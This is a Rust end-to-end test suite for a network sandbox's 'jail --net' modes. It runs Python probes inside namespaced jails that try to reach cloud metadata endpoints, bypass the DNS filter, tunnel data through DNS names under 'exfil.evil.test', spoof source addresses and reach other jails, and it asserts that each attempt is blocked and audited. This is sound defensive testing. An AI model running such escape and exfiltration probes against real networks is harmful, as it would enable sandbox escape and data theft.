//! `paddock jail --net …` end to end, against hosts the test builds itself. Every host is a
//! network namespace, Paddock's "host" too: `paddock` runs inside it (`nsenter --net`), so the
//! real host's interfaces, routes and ruleset are never touched, and deleting the namespaces
//! removes everything even when an assertion fails (see `netcli/topo.rs` for the picture).
//!
//! The oracle is what *arrives*: each far host logs every connection and datagram, dnsmasq
//! (the upstream resolver) logs every query, and a test asserts on those logs, using the
//! client's own report only for how an attempt failed and how fast. Every test ends by
//! checking the host namespace is clean: no `pdk*` link, no `inet paddock` table, no lease,
//! and no DNS filter process left after 3 s.
//!
//! ICMP is in `root_net_icmp.rs`: the jail's own user cannot send it (no CAP_NET_RAW, and
//! `net.ipv4.ping_group_range` excludes it), so that test sends it as root from inside the
//! jail's namespace.
//!
//! Root only (STYLE rule 13): without root every test prints why and returns, unless `CI` is
//! set.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod netcli;
// Shared with root_cli.rs and root_escape.rs, which use other subsets.
#[path = "escape/util.rs"]
#[allow(dead_code)]
mod util;

use std::time::Duration;

use netcli::probe::{
    assert_errno_fast, assert_fail, assert_fail_fast, assert_ok, context, info, script,
};
use netcli::reload::{assert_attempts, reload_log, RELOAD_LOOP};
use netcli::servers::Event;
use netcli::topo::{Topology, INET, INET_UPLINK, METADATA};
use netcli::{wait, PYTHON};
use util::{Run, Workdir, ECONNREFUSED, ENETUNREACH};

/// EAI_NONAME: the resolver's answer to a denied name (the filter answers NXDOMAIN).
const EAI_NONAME: &str = "-2";

/// Asserts a Python probe ran to the end; prints its report (shown when a test fails, or
/// with `--nocapture`).
fn py(run: Run) -> Run {
    eprintln!("{}", run.stdout);
    assert_eq!(run.code, 0, "probe failed\n{}", context(&run));
    run
}

fn peers(events: &[Event]) -> Vec<String> {
    events.iter().map(|e| e.peer_ip().to_string()).collect()
}

/// Audit lines (JSON) that mention `name`.
fn audit_lines(t: &Topology, name: &str) -> Vec<String> {
    let text = std::fs::read_to_string(t.audit()).unwrap_or_default();
    let needle = format!("\"name\":\"{name}\"");
    text.lines()
        .filter(|l| l.contains(&needle))
        .map(str::to_string)
        .collect()
}

#[test]
fn intranet_jail_reaches_private_ranges_only_and_dns_goes_through_the_filter() {
    let test = "intranet_jail_reaches_private_ranges_only_and_dns_goes_through_the_filter";
    if !netcli::require(test) {
        return;
    }
    let t = Topology::new(0);
    let (intra, up) = (t.intra_ip(), t.intra_uplink());
    let name = format!("i{}", t.tag);
    let body = r#"
ns = [l.split()[1] for l in open("/etc/resolv.conf").read().splitlines() if l.startswith("nameserver")]
print("INFO nameservers=%s" % ",".join(ns), flush=True)
print("INFO links=%s" % ",".join(sorted(os.listdir("/sys/class/net"))), flush=True)
v6 = open("/proc/net/if_inet6").read() if os.path.exists("/proc/net/if_inet6") else ""
print("INFO v6addrs=%d" % len([l for l in v6.splitlines() if "pdk" in l]), flush=True)
curl("curl-intra", "http://{INTRA}/")
curl("curl-inet", "http://203.0.113.10/")
timed("tcp-inet", tcp("203.0.113.10", 80, "tcp-inet"))
timed("udp-inet", udp("203.0.113.10", 9999, "udp-inet"))
timed("udp-intra", udp("{INTRA}", 9999, "udp-intra"))
timed("meta-aws", tcp("169.254.169.254", 80, "meta-aws", timeout=1.5))
timed("meta-ali", tcp("100.100.100.200", 80, "meta-ali", timeout=1.5))
timed("host-uplink", tcp("{UPLINK}", 8080, "host-uplink", timeout=1.5))
timed("host-inet-uplink", tcp("203.0.113.1", 8080, "host-inet-uplink", timeout=1.5))
timed("host-gw", tcp(GW, 8080, "host-gw", timeout=1.5))
timed("host-udp", udp("{UPLINK}", 8081, "host-udp"))
timed("host-udp-gw", udp(GW, 8081, "host-udp-gw"))
timed("dns-allowed", gai("api.corp.test"))
timed("dns-denied", gai("secret123.evil.test"))
timed("dns-tcp-gw", dns_tcp(GW, "tcp.corp.test"))
timed("dns-direct-udp", dns_udp("{INTRA}", "direct-udp.evil.test"))
timed("dns-direct-tcp", dns_tcp("{INTRA}", "direct-tcp.evil.test"))
timed("dns-inet-udp", dns_udp("203.0.113.10", "inet-udp.evil.test"))
timed("dns-inet-tcp", tcp("203.0.113.10", 53, "dns-inet-tcp", timeout=1.0))
timed("dot-intra", tcp("{INTRA}", 853, "dot-intra", timeout=1.0))
timed("dot-inet", tcp("203.0.113.10", 853, "dot-inet", timeout=1.0))
timed("v6-doc", tcp("2001:db8::1", 80, "v6-doc", timeout=1.0, fam=socket.AF_INET6))
timed("v6-mapped", tcp("::ffff:203.0.113.10", 80, "v6-mapped", timeout=1.0, fam=socket.AF_INET6))
timed("v6-mapped-udp", udp("::ffff:203.0.113.10", 9999, "v6-mapped-udp", fam=socket.AF_INET6))
# Tunnelling: 300 unique names under a denied zone, half A and half TXT, from one process.
def tunnel():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(0.1)
    rcodes = {}
    for batch in range(15):
        for i in range(batch * 20, batch * 20 + 20):
            _, pkt = dnsq("t%03d-c2VjcmV0.exfil.evil.test" % i, 16 if i % 2 else 1)
            s.sendto(pkt, (GW, 53))
        try:
            while True:
                r = s.recv(4096)[3] & 15
                rcodes[r] = rcodes.get(r, 0) + 1
        except OSError:
            pass
    return "rcodes=" + ",".join("%d:%d" % kv for kv in sorted(rcodes.items()))
timed("tunnel", tunnel)
"#;
    let script = script(body, &[("INTRA", &intra), ("UPLINK", &up)]);
    let run = py(t
        .jail(&[
            "--net",
            "intranet",
            "--dns-allow",
            "*.corp.test",
            "--name",
            &name,
        ])
        .run(&[PYTHON, "-c", &script]));
    wait::settle();

    // The jail's side: a /31 from the pool, DNS pointed at the gateway, no IPv6.
    let (me, gw) = (info(&run, "me"), info(&run, "gw"));
    assert!(
        me.starts_with("10.213.") && gw.starts_with("10.213."),
        "{me} {gw}"
    );
    assert_eq!(
        info(&run, "nameservers"),
        gw,
        "resolv.conf names the gateway only"
    );
    let links = info(&run, "links");
    let links: Vec<&str> = links.split(',').collect();
    assert!(
        links.len() == 2 && links[0] == "lo" && links[1].starts_with("pdk"),
        "{links:?}"
    );
    assert_eq!(info(&run, "v6addrs"), "0", "IPv6 address on the jail link");

    // The intranet answers, and sees the host's uplink address (masquerade).
    let p = assert_ok(&run, "curl-intra");
    assert_eq!(p.field("body"), Some("hello_from_intranet"));
    let get = t.intra_srv.expect_data("GET / HTTP");
    assert_eq!(
        (get.kind.as_str(), get.peer_ip()),
        ("tcp-data", up.as_str()),
        "{get:?}"
    );
    let dgram = t.intra_srv.expect_data("udp-intra");
    assert_eq!(
        (dgram.kind.as_str(), dgram.peer_ip()),
        ("udp", up.as_str()),
        "{dgram:?}"
    );

    // Everything else is refused at once, and nothing reaches the internet host at all:
    // not TCP, UDP, DNS, DoT, metadata or IPv4-mapped IPv6.
    let p = assert_fail_fast(&run, "curl-inet");
    assert_eq!(p.field("curl"), Some("7"), "{p:?}");
    assert_errno_fast(&run, "tcp-inet", ECONNREFUSED);
    for tag in [
        "meta-aws",
        "meta-ali",
        "dns-inet-udp",
        "dns-inet-tcp",
        "dot-inet",
        "v6-mapped",
    ] {
        assert_fail(&run, tag);
    }
    assert_fail_fast(&run, "v6-doc");
    assert_fail_fast(&run, "v6-mapped");
    let reached: Vec<Event> = t.inet_srv.events();
    assert!(reached.is_empty(), "reached the internet host: {reached:?}");

    // The host's own services, on every address it has, including the gateway.
    for tag in ["host-uplink", "host-inet-uplink", "host-gw"] {
        assert_fail(&run, tag);
    }
    let reached = t.host_srv.events();
    assert!(reached.is_empty(), "reached the host: {reached:?}");

    // DNS: an allowed name resolves through the filter, whose queries come from the host; a
    // denied name fails fast and never leaves the host.
    let p = assert_ok(&run, "dns-allowed");
    assert_eq!(p.field("addr"), Some(intra.as_str()));
    assert!(p.dt < 1.0, "{p:?}");
    let p = assert_ok(&run, "dns-tcp-gw");
    assert_eq!(p.field("rcode"), Some("0"), "{p:?}");
    assert_eq!(p.field("ip"), Some(intra.as_str()), "{p:?}");
    let upstream = t.dns.lines_with("query[A] api.corp.test");
    assert!(
        !upstream.is_empty() && upstream.iter().all(|l| l.ends_with(&format!("from {up}"))),
        "{upstream:?}"
    );
    let p = assert_fail_fast(&run, "dns-denied");
    assert_eq!(p.field("gai"), Some(EAI_NONAME), "{p:?}");

    // A resolver other than the filter, even the real one, is not reachable on 53 or 853.
    for tag in ["dns-direct-udp", "dns-direct-tcp", "dot-intra"] {
        assert_fail(&run, tag);
    }
    let on_853: Vec<Event> = t
        .intra_srv
        .events()
        .into_iter()
        .filter(|e| e.local.ends_with(":853"))
        .collect();
    assert!(on_853.is_empty(), "DoT reached the intranet: {on_853:?}");
    // Tunnelling: the 300 queries were answered here; no evil.test name ever went upstream.
    let p = assert_ok(&run, "tunnel");
    assert!(p.field("rcodes").is_some(), "{p:?}");
    let leaked = t.dns.lines_with("evil.test");
    assert!(
        leaked.is_empty(),
        "denied names reached upstream: {leaked:?}"
    );
    assert!(
        peers(&t.intra_srv.events()).iter().all(|p| *p == up),
        "{:?}",
        t.intra_srv.events()
    );

    // The audit trail names the jail and the decision.
    let denied = wait::until(Duration::from_secs(2), || {
        let l = audit_lines(&t, "secret123.evil.test");
        (!l.is_empty()).then_some(l)
    })
    .unwrap_or_else(|| {
        panic!(
            "no audit event for the denied name: {:?}",
            std::fs::read_to_string(t.audit())
        )
    });
    for l in &denied {
        assert!(l.contains("\"event\":\"dns\""), "{l}");
        assert!(l.contains("\"decision\":\"deny\""), "{l}");
        assert!(l.contains(&format!("\"jail\":\"{name}\"")), "{l}");
        assert!(l.contains(&format!("\"client\":\"{me}\"")), "{l}");
    }
    let allowed = audit_lines(&t, "api.corp.test");
    assert!(
        allowed.iter().any(|l| l.contains("\"decision\":\"allow\"")
            && l.contains("\"rule\":\"*.corp.test\"")
            && l.contains(&format!("\"jail\":\"{name}\""))),
        "{allowed:?}"
    );
    let text = std::fs::read_to_string(t.audit()).unwrap_or_default();
    assert!(
        !text
            .lines()
            .any(|l| l.contains("evil.test") && l.contains("\"decision\":\"allow\"")),
        "an evil.test name was allowed:\n{text}"
    );
    t.assert_clean();
}

#[test]
fn internet_jail_is_masqueraded_and_still_blocks_metadata_host_and_spoofing() {
    let test = "internet_jail_is_masqueraded_and_still_blocks_metadata_host_and_spoofing";
    if !netcli::require(test) {
        return;
    }
    let t = Topology::new(1);
    let (intra, up) = (t.intra_ip(), t.intra_uplink());
    let spoof_intra = format!("10.99.{}.77", t.x);
    let body = r#"
curl("curl-inet", "http://203.0.113.10/")
curl("curl-intra", "http://{INTRA}/")
timed("meta-aws", tcp("169.254.169.254", 80, "meta-aws", timeout=1.5))
timed("meta-ali", tcp("100.100.100.200", 80, "meta-ali", timeout=1.5))
timed("meta-aws-udp", udp("169.254.169.254", 9999, "meta-aws-udp"))
timed("host-uplink", tcp("203.0.113.1", 8080, "host-uplink", timeout=1.5))
timed("host-intra-uplink", tcp("{UPLINK}", 8080, "host-intra-uplink", timeout=1.5))
timed("host-gw", tcp(GW, 8080, "host-gw", timeout=1.5))
timed("host-udp", udp("203.0.113.1", 8081, "host-udp"))
timed("dns-allowed", gai("api.corp.test"))
timed("dns-denied", gai("secret123.evil.test"))
timed("dns-inet-udp", dns_udp("203.0.113.10", "inet-udp.evil.test"))
timed("dns-inet-tcp", tcp("203.0.113.10", 53, "dns-inet-tcp", timeout=1.0))
timed("dot-inet", tcp("203.0.113.10", 853, "dot-inet", timeout=1.0))
timed("v6-doc", tcp("2001:db8::1", 80, "v6-doc", timeout=1.0, fam=socket.AF_INET6))
# Spoofing: IP_FREEBIND (15) binds an address the jail does not hold; IP_TRANSPARENT (19)
# needs CAP_NET_ADMIN. The positive control is the same datagram from the jail's address.
timed("legit", udp("203.0.113.10", 9999, "legit-datagram"))
timed("spoof-pool", udp("203.0.113.10", 9999, "spoof-pool", bind="10.213.255.254", opts=[(socket.SOL_IP, 15)]))
timed("spoof-intra", udp("203.0.113.10", 9999, "spoof-intra", bind="{SPOOF}", opts=[(socket.SOL_IP, 15)]))
timed("spoof-transparent", udp("203.0.113.10", 9999, "spoof-transparent", bind="10.213.255.254", opts=[(socket.SOL_IP, 19)]))
"#;
    let script = script(
        body,
        &[("INTRA", &intra), ("UPLINK", &up), ("SPOOF", &spoof_intra)],
    );
    let run = py(t
        .jail(&["--net", "internet", "--dns-allow", "*.corp.test"])
        .run(&[PYTHON, "-c", &script]));
    wait::settle();

    // Out through masquerade: the far hosts see the host's uplink addresses.
    let p = assert_ok(&run, "curl-inet");
    assert_eq!(p.field("body"), Some("hello_from_internet"));
    assert_eq!(t.inet_srv.expect_data("GET / HTTP").peer_ip(), INET_UPLINK);
    assert_ok(&run, "curl-intra");
    assert_eq!(t.intra_srv.expect_data("GET / HTTP").peer_ip(), up);

    // Metadata and the host stay closed in internet mode.
    for tag in [
        "meta-aws",
        "meta-ali",
        "host-uplink",
        "host-intra-uplink",
        "host-gw",
    ] {
        assert_fail(&run, tag);
    }
    let meta: Vec<Event> = t
        .inet_srv
        .events()
        .into_iter()
        .filter(|e| METADATA.contains(&e.local_ip()) || e.data.contains("meta-"))
        .collect();
    assert!(meta.is_empty(), "metadata reached: {meta:?}");
    let reached = t.host_srv.events();
    assert!(reached.is_empty(), "reached the host: {reached:?}");

    // DNS only through the filter, even with the whole internet open.
    let p = assert_ok(&run, "dns-allowed");
    assert_eq!(p.field("addr"), Some(intra.as_str()));
    let p = assert_fail_fast(&run, "dns-denied");
    assert_eq!(p.field("gai"), Some(EAI_NONAME), "{p:?}");
    for tag in ["dns-inet-udp", "dns-inet-tcp", "dot-inet"] {
        assert_fail(&run, tag);
    }
    let dns_out: Vec<Event> = t
        .inet_srv
        .events()
        .into_iter()
        .filter(|e| e.local.ends_with(":53") || e.local.ends_with(":853"))
        .collect();
    assert!(dns_out.is_empty(), "DNS bypassed the filter: {dns_out:?}");
    let leaked = t.dns.lines_with("evil.test");
    assert!(
        leaked.is_empty(),
        "denied names reached upstream: {leaked:?}"
    );
    assert_fail_fast(&run, "v6-doc");

    // Spoofing: only the datagram from the jail's own address arrives.
    assert_ok(&run, "legit");
    assert_eq!(
        t.inet_srv.expect_data("legit-datagram").peer_ip(),
        INET_UPLINK
    );
    let spoofed: Vec<Event> = [&t.inet_srv, &t.intra_srv, &t.host_srv]
        .iter()
        .flat_map(|s| s.with_data("spoof-"))
        .collect();
    assert!(spoofed.is_empty(), "spoofed datagrams arrived: {spoofed:?}");
    t.assert_clean();
}

#[test]
fn net_none_is_loopback_only_and_an_overlapping_pool_is_refused() {
    let test = "net_none_is_loopback_only_and_an_overlapping_pool_is_refused";
    if !netcli::require(test) {
        return;
    }
    let t = Topology::new(2);
    let intra = t.intra_ip();
    let body = r#"
print("INFO links=%s" % ",".join(sorted(os.listdir("/sys/class/net"))), flush=True)
print("RESOLV-BEGIN\n%sRESOLV-END" % (open("/etc/resolv.conf").read() if os.path.exists("/etc/resolv.conf") else "<absent>\n"), flush=True)
timed("tcp-intra", tcp("{INTRA}", 80, "none-tcp", timeout=1.0))
timed("tcp-inet", tcp("203.0.113.10", 80, "none-tcp-inet", timeout=1.0))
timed("udp-inet", udp("203.0.113.10", 9999, "none-udp"))
timed("dns", gai("api.corp.test"))
import threading
l = socket.socket()
l.bind(("127.0.0.1", 0))
l.listen(1)
def answer():
    c, _ = l.accept()
    c.recv(100)
    c.sendall(b"pong\n")
    c.close()
threading.Thread(target=answer, daemon=True).start()
timed("loopback", tcp("127.0.0.1", l.getsockname()[1], "loop", timeout=1.0))
"#;
    let script = script(body, &[("INTRA", &intra)]);
    let run = py(t.jail(&["--net", "none"]).run(&[PYTHON, "-c", &script]));
    wait::settle();
    assert_eq!(info(&run, "links"), "lo");
    assert_errno_fast(&run, "tcp-intra", ENETUNREACH);
    assert_errno_fast(&run, "tcp-inet", ENETUNREACH);
    assert_errno_fast(&run, "udp-inet", ENETUNREACH);
    assert_fail(&run, "dns");
    // The positive control: loopback works.
    assert_eq!(assert_ok(&run, "loopback").field("reply"), Some("pong"));
    let host_resolv =
        std::fs::read_to_string("/etc/resolv.conf").unwrap_or_else(|_| "<absent>\n".to_string());
    let jail_resolv = run
        .stdout
        .split("RESOLV-BEGIN\n")
        .nth(1)
        .and_then(|s| s.split("RESOLV-END").next())
        .unwrap_or("");
    assert_eq!(
        jail_resolv, host_resolv,
        "resolv.conf changed under --net none"
    );
    for s in [&t.intra_srv, &t.inet_srv, &t.host_srv] {
        assert!(s.events().is_empty(), "{:?}", s.events());
    }
    t.assert_clean();

    // A pool overlapping a route of the host (the intranet) is refused before anything is set up.
    let pool = t.intra_net();
    let run = t
        .jail(&["--net", "intranet"])
        .env("PADDOCK_NET_POOL", &pool)
        .run(&["true"]);
    assert_eq!(run.code, 125, "{}", context(&run));
    let lines: Vec<&str> = run.stderr.lines().filter(|l| !l.is_empty()).collect();
    assert!(
        lines.len() == 1
            && lines[0].starts_with("paddock: error: ")
            && lines[0].contains("overlaps"),
        "{}",
        context(&run)
    );
    t.assert_clean();
}

#[test]
fn blocks_jail_to_jail_traffic() {
    if !netcli::require("blocks_jail_to_jail_traffic") {
        return;
    }
    let t = Topology::new(3);
    let w = Workdir::jail_owned();
    let listener = r#"
import select
ls = socket.socket()
ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
ls.bind(("0.0.0.0", 7000))
ls.listen(16)
us = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
us.bind(("0.0.0.0", 7000))
log = open("/workspace/hits-{LABEL}", "a")
# Positive control: the listener reaches itself on the address the others will try.
udp(ME, 7000, "self-udp")()
c = socket.create_connection((ME, 7000), timeout=1)
c.sendall(b"self-tcp\n")
c.close()
open("/workspace/addr-{LABEL}.tmp", "w").write(ME)
os.rename("/workspace/addr-{LABEL}.tmp", "/workspace/addr-{LABEL}")
end = time.monotonic() + 15
while time.monotonic() < end and not os.path.exists("/workspace/stop"):
    for s in select.select([ls, us], [], [], 0.1)[0]:
        if s is ls:
            c, peer = ls.accept()
            c.settimeout(1)
            try:
                d = c.recv(100)
            except OSError:
                d = b""
            c.close()
            kind = "tcp"
        else:
            d, peer = us.recvfrom(100)
            kind = "udp"
        log.write("%s %s %s\n" % (kind, peer[0], d.decode("latin-1").strip()))
        log.flush()
"#;
    let prober = r#"
for label in ["a", "b"]:
    addr = open("/workspace/addr-" + label).read().strip()
    print("INFO addr-%s=%s" % (label, addr), flush=True)
    timed("tcp-" + label, tcp(addr, 7000, "from-{LABEL}-to-" + label, timeout=1.0))
    timed("udp-" + label, udp(addr, 7000, "from-{LABEL}-to-" + label))
"#;
    let wd = ["--workdir", w.arg()];
    let start = |mode: &str, label: &str| {
        let s = script(listener, &[("LABEL", label)]);
        t.jail(&[&["--net", mode][..], &wd[..]].concat())
            .spawn(&[PYTHON, "-c", &s])
    };
    let a = start("intranet", "a");
    let b = start("internet", "b");
    for label in ["a", "b"] {
        let f = w.path().join(format!("addr-{label}"));
        wait::expect(
            Duration::from_secs(10),
            &format!("listener {label}"),
            || f.exists().then_some(()),
        );
    }
    for (mode, label) in [("intranet", "c"), ("internet", "d")] {
        let s = script(prober, &[("LABEL", label)]);
        let run = py(t
            .jail(&[&["--net", mode][..], &wd[..]].concat())
            .run(&[PYTHON, "-c", &s]));
        for target in ["a", "b"] {
            assert_fail(&run, &format!("tcp-{target}"));
            assert_ne!(info(&run, "me"), info(&run, &format!("addr-{target}")));
        }
    }
    wait::settle();
    std::fs::write(w.path().join("stop"), "").unwrap();
    for (label, bg) in [("a", a), ("b", b)] {
        let run = bg.finish(Duration::from_secs(5));
        assert_eq!(run.code, 0, "listener {label}\n{}", context(&run));
        let hits = std::fs::read_to_string(w.path().join(format!("hits-{label}"))).unwrap();
        assert!(
            hits.contains("udp") && hits.contains("self-udp") && hits.contains("self-tcp"),
            "listener {label} never saw its own control: {hits:?}"
        );
        assert!(
            !hits.contains("from-"),
            "another jail reached jail {label}: {hits}"
        );
    }
    t.assert_clean();
}

#[test]
fn hot_reload_switches_mode_and_dns_allowlist_within_a_second() {
    if !netcli::require("hot_reload_switches_mode_and_dns_allowlist_within_a_second") {
        return;
    }
    let t = Topology::new(4);
    let intra = t.intra_ip();
    let w = Workdir::jail_owned();
    let name = format!("r{}", t.tag);
    let open = t.write(
        "internet.yaml",
        "network:\n  mode: internet\n  dns:\n    allow: [\"*.corp.test\", \"*.other.test\"]\n",
    );
    let closed = t.write(
        "intranet.yaml",
        "network:\n  mode: intranet\n  dns:\n    allow: [\"*.corp.test\"]\n",
    );
    let s = script(RELOAD_LOOP, &[]);
    let bg = t
        .jail(&[
            "--net",
            "intranet",
            "--dns-allow",
            "*.corp.test",
            "--name",
            &name,
            "--workdir",
            w.arg(),
        ])
        .spawn(&[PYTHON, "-c", &s]);
    wait::expect(Duration::from_secs(10), "the reload probe", || {
        (reload_log(&w).len() >= 5).then_some(())
    });
    assert_attempts(&w, 0.0, wait::now(), false, &intra);

    let set = |file: &std::path::Path| {
        let run = t.paddock(&[
            "policy",
            "set",
            "--jail",
            &name,
            "--wait",
            file.to_str().unwrap(),
        ]);
        assert_eq!(
            run.code,
            0,
            "policy set {}\n{}",
            file.display(),
            context(&run)
        );
        wait::now()
    };
    // Open: internet mode and *.other.test allowed, within a second of `--wait` returning.
    let asked = wait::now();
    let done = set(&open);
    std::thread::sleep(Duration::from_millis(1600));
    assert_attempts(&w, done + 1.0, wait::now(), true, &intra);
    let first_open = reload_log(&w).into_iter().find(|a| a.0 >= asked && a.1);
    eprintln!(
        "policy set (internet) took {:.3} s; first open attempt at {:+.3} s from its return",
        done - asked,
        first_open.map_or(f64::NAN, |a| a.0 - done)
    );
    let arrived: Vec<Event> = t
        .inet_srv
        .with_data("reload-")
        .into_iter()
        .filter(|e| e.time >= asked)
        .collect();
    assert!(!arrived.is_empty(), "no reload connection arrived");
    assert!(
        arrived.iter().all(|e| e.peer_ip() == INET_UPLINK),
        "{arrived:?}"
    );

    // Closed again: intranet, *.other.test denied.
    let asked = wait::now();
    let done = set(&closed);
    std::thread::sleep(Duration::from_millis(1600));
    let until = wait::now();
    assert_attempts(&w, done + 1.0, until, false, &intra);
    let last_open = reload_log(&w).into_iter().rfind(|a| a.1);
    eprintln!(
        "policy set (intranet) took {:.3} s; last open attempt at {:+.3} s from its return",
        done - asked,
        last_open.map_or(f64::NAN, |a| a.0 - done)
    );
    let late: Vec<Event> = t
        .inet_srv
        .with_data("reload-")
        .into_iter()
        .filter(|e| e.time >= done + 1.0)
        .collect();
    assert!(late.is_empty(), "internet reached after closing: {late:?}");

    std::fs::write(w.path().join("stop"), "").unwrap();
    let run = bg.finish(Duration::from_secs(5));
    assert_eq!(run.code, 0, "{}", context(&run));
    t.assert_clean();
}

#[test]
fn recovers_leftovers_of_a_killed_paddock() {
    if !netcli::require("recovers_leftovers_of_a_killed_paddock") {
        return;
    }
    let t = Topology::new(5);
    let w = Workdir::jail_owned();
    // A marker only this jail's sleep carries (GNU sleep takes a fraction).
    let secs = format!("30.{}", t.tag);
    let mut bg = t
        .jail(&["--net", "intranet", "--workdir", w.arg()])
        .spawn(&[
            "sh",
            "-c",
            &format!("echo up > /workspace/up; exec sleep {secs}"),
        ]);
    let up = w.path().join("up");
    wait::expect(Duration::from_secs(10), "the jail to start", || {
        up.exists().then_some(())
    });
    let chains = t.jail_chains();
    assert!(!chains.is_empty(), "no jail chains while the jail runs");

    bg.kill();
    let run = bg.finish(Duration::from_secs(5));
    assert_eq!(run.code, 128 + 9, "{}", context(&run));
    let sleeper = format!("sleep {secs}");
    let gone = wait::until(Duration::from_secs(3), || {
        util::pgrep(&sleeper).is_empty().then_some(())
    });
    assert!(
        gone.is_some(),
        "the jail outlived paddock: {:?}",
        util::pgrep(&sleeper)
    );
    // What SIGKILL left behind: the jail's rules and lease (its veth died with its namespace).
    assert_eq!(t.jail_chains(), chains, "leftovers to recover");
    let leases = t.lease_files();
    assert!(
        leases.iter().any(|l| l.contains(".lease")),
        "no lease left to recover: {leases:?}"
    );

    // The next networked jail removes them as it starts (its own go after it ends).
    let killed = chains[0]
        .strip_prefix("j_")
        .and_then(|c| c.rsplit_once('_'))
        .map(|(id, _)| id.to_string())
        .unwrap();
    let run = t.jail(&["--net", "intranet"]).run(&["true"]);
    assert_eq!(run.code, 0, "{}", context(&run));
    let still: Vec<String> = t
        .jail_chains()
        .into_iter()
        .filter(|c| chains.contains(c))
        .collect();
    assert!(still.is_empty(), "the killed jail's chains: {still:?}");
    let lease = format!("/{killed}.lease");
    let leases = t.lease_files();
    assert!(
        !leases.iter().any(|l| l.contains(&lease)),
        "the killed jail's lease: {leases:?}"
    );
    t.assert_clean();
}

/// The issue's "done when": curl to the intranet works; curl to the internet and a name
/// outside the allowlist fail fast.
#[test]
fn done_when_intranet_curl_works_and_the_rest_fails_fast() {
    if !netcli::require("done_when_intranet_curl_works_and_the_rest_fails_fast") {
        return;
    }
    let t = Topology::new(6);
    let net = ["--net", "intranet", "--dns-allow", "*.corp.test"];
    let url = format!("http://{}/", t.intra_ip());
    let run = t.jail(&net).run(&["curl", "-sS", "--max-time", "5", &url]);
    assert_eq!(run.code, 0, "{}", context(&run));
    assert_eq!(run.stdout, "hello from intranet\n");

    let run = t
        .jail(&net)
        .run(&["curl", "-sS", "--max-time", "5", &format!("http://{INET}/")]);
    assert_eq!(run.code, 7, "{}", context(&run));
    assert!(run.elapsed < Duration::from_secs(2), "{:?}", run.elapsed);

    let run = t.jail(&net).run(&["getent", "hosts", "www.evil.test"]);
    assert_eq!(run.code, 2, "{}", context(&run));
    assert!(run.elapsed < Duration::from_secs(2), "{:?}", run.elapsed);
    let run = t.jail(&net).run(&["getent", "hosts", "www.corp.test"]);
    assert_eq!(run.code, 0, "{}", context(&run));
    assert!(run.stdout.starts_with(&t.intra_ip()), "{}", run.stdout);

    wait::settle();
    assert!(t.inet_srv.events().is_empty(), "{:?}", t.inet_srv.events());
    assert!(t.dns.lines_with("evil.test").is_empty());
    t.assert_clean();
}

/// The kernel already stops an unprivileged jail from sending with an address it does not
/// hold (IP_FREEBIND binds, but the route lookup fails: see the internet test). This test
/// gives the attacker what it could not get itself: the test (root, outside) adds foreign
/// addresses to the jail's link, so the kernel sends the datagrams and only Paddock's
/// anti-spoofing stands in the way.
#[test]
fn blocks_spoofed_sources_even_from_an_address_on_the_jail_link() {
    if !netcli::require("blocks_spoofed_sources_even_from_an_address_on_the_jail_link") {
        return;
    }
    let t = Topology::new(7);
    let w = Workdir::jail_owned();
    let marker = format!("spoofer-{}", t.tag);
    let spoofs = ["10.213.255.254".to_string(), format!("10.99.{}.77", t.x)];
    let body = r#"
# {MARKER}
link = [n for n in os.listdir("/sys/class/net") if n != "lo"][0]
open("/workspace/link", "w").write(link)
end = time.monotonic() + 10
while not os.path.exists("/workspace/go") and time.monotonic() < end:
    time.sleep(0.02)
timed("legit", udp("203.0.113.10", 9999, "legit-from-me"))
for src in "{SPOOFS}".split(","):
    timed("spoof-" + src, udp("203.0.113.10", 9999, "spoofed-from-" + src, bind=src))
    timed("spoof-intra-" + src, udp("{INTRA}", 9999, "spoofed-from-" + src, bind=src))
"#;
    let s = script(
        body,
        &[
            ("MARKER", &marker),
            ("SPOOFS", &spoofs.join(",")),
            ("INTRA", &t.intra_ip()),
        ],
    );
    let bg = t
        .jail(&["--net", "internet", "--workdir", w.arg()])
        .spawn(&[PYTHON, "-c", &s]);
    let link_file = w.path().join("link");
    let link = wait::expect(Duration::from_secs(10), "the jail's link name", || {
        std::fs::read_to_string(&link_file)
            .ok()
            .filter(|l| !l.is_empty())
    });
    // Any process of the jail names its network namespace.
    let host_ino = t.host_inode();
    let jail_pid = wait::expect(Duration::from_secs(5), "a process of the jail", || {
        util::pgrep(&marker).into_iter().find(|p| {
            let ns = std::fs::read_link(format!("/proc/{p}/ns/net")).unwrap_or_default();
            let own = std::fs::read_link("/proc/self/ns/net").unwrap_or_default();
            ns != own && ns.to_string_lossy() != format!("net:[{host_ino}]")
        })
    });
    for src in &spoofs {
        netcli::topo::run_ok(
            "nsenter",
            &[
                &format!("--net=/proc/{jail_pid}/ns/net"),
                "ip",
                "addr",
                "add",
                &format!("{src}/32"),
                "dev",
                &link,
            ],
        );
    }
    std::fs::write(w.path().join("go"), "").unwrap();
    let run = py(bg.finish(Duration::from_secs(10)));
    wait::settle();
    assert_ok(&run, "legit");
    assert_eq!(
        t.inet_srv.expect_data("legit-from-me").peer_ip(),
        INET_UPLINK
    );
    for src in &spoofs {
        // The kernel sent them (the addresses are the jail's now): only Paddock dropped them.
        assert_ok(&run, &format!("spoof-{src}"));
        assert_ok(&run, &format!("spoof-intra-{src}"));
    }
    let spoofed: Vec<Event> = [&t.inet_srv, &t.intra_srv]
        .iter()
        .flat_map(|s| s.with_data("spoofed-from-"))
        .collect();
    assert!(spoofed.is_empty(), "spoofed datagrams arrived: {spoofed:?}");
    t.assert_clean();
}
